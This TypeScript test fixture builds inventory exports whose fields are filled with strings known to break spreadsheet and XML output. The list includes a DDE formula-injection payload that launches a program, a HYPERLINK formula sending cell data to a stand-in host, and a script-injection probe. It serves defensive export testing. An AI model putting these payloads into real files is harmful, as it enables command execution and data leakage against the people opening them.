/** Stock exports for tests: ordinary materials, and texts that have broken spreadsheet files before. */
import {
  type Catalogue,
  CatalogueBuilder,
  type ListedMaterial,
} from '../../../../src-shared/material/catalogue/catalogue.ts'
import type { StockExport } from '../../../../src-shared/export/export-columns.ts'
import { type Decimal, toDecimal } from '../../../../src-shared/material/values/decimal.ts'

/** Texts that became a formula, broke an archive's XML, or changed when read again. */
export const HOSTILE: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=1+1\nsecond line',
  'first line\n=1+1',
  '@SUM(1)',
  '+1',
  '-2+3',
  '\t=1',
  '\n=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  ' =1+1',
  '\u00a0=1+1',
  "'=1",
  "''=1",
  "'quoted'",
  '=HYPERLINK("http://x/?"&A1)',
  'a\r\nb',
  'a\rb',
  ' leading and trailing ',
  '  ',
  '_x0041_',
  '_x0041_x0042_',
  '_x005F_x0041_',
  '_x000D_',
  '__proto__',
  'constructor',
  'a & b < c > "d" \'e\'',
  '<script>alert(1)</script>',
  ']]>',
  '&amp;&lt;',
  'lone \ud800 surrogate',
  'lone \udc00 surrogate',
  'non-character \ufffe\uffff',
  'nul \u0000 bell \u0007 del \u007f nel \u0085',
  '😀 emoji 👩‍🔧',
  'Доска дубовая 40×2000',
  '木板',
  'e\u0301 combining, é composed',
  '\u202eright to left\u202c',
  'zero\u200bwidth',
  '(clear)',
  '#N/A',
  'TRUE',
  '1e5',
  '00123',
  '5.5E+12',
  '1/2',
  '2024-01-02',
  'a;b|c,d\te',
  '"starts with a quote',
  'x'.repeat(40_000),
]

export function decimal(text: string): Decimal {
  const value = toDecimal(text)
  if (value === null) throw new Error(`not a decimal: ${text}`)
  return value
}

/** A material with ordinary values except the given ones. */
export function material(id: number, given: Partial<ListedMaterial> = {}): ListedMaterial {
  return {
    id,
    name: `Material ${id}`,
    sku: String(id).padStart(6, '0'),
    unit: 'pcs',
    price: decimal('12.5'),
    notes: '',
    archived: false,
    categories: [],
    stock: decimal('40'),
    minimum: decimal('5'),
    planned: null,
    ...given,
  }
}

/** With the indexes that an import of the same account would have. */
export interface FullExport extends StockExport {
  readonly catalogue: Catalogue
}

export interface StorageContent {
  readonly id: number
  readonly name: string
  readonly materials: readonly ListedMaterial[]
}

export function stockOf(storages: readonly StorageContent[]): FullExport {
  const builder = new CatalogueBuilder()
  for (const { id, materials } of storages) {
    builder.addStorage(id)
    for (const material of materials) builder.add(id, material)
  }
  const catalogue = builder.build()
  return {
    account: 'https://account.example/connect',
    accountName: 'Workshop',
    exportedAt: '2026-03-01T09:05:00.000Z',
    exportId: 'export-1',
    clearToken: '(clear)',
    catalogue,
    storages: storages.map(({ id, name, materials }) => ({
      id,
      name,
      rows: materials.flatMap((material) => catalogue.byId.get(material.id) ?? []),
    })),
  }
}

/** One storage whose materials have each hostile text as name, SKU, notes, unit and category in turn. */
export function hostileStock(): FullExport {
  const materials = HOSTILE.map((text, index) =>
    material(index + 1, {
      name: text,
      sku: HOSTILE[(index + 7) % HOSTILE.length] ?? '',
      notes: HOSTILE[(index + 13) % HOSTILE.length] ?? '',
      unit: index % 5 === 0 ? (HOSTILE[(index + 3) % 20] ?? 'kg') : 'kg',
      categories: index % 3 === 0 ? [{ id: 1000 + index, name: text.slice(0, 100) }] : [],
      price: decimal(`${index}.25`),
      stock: decimal(String(index % 9)),
    }),
  )
  return stockOf([{ id: 1, name: "Main / 'store' [1]: *?", materials }])
}
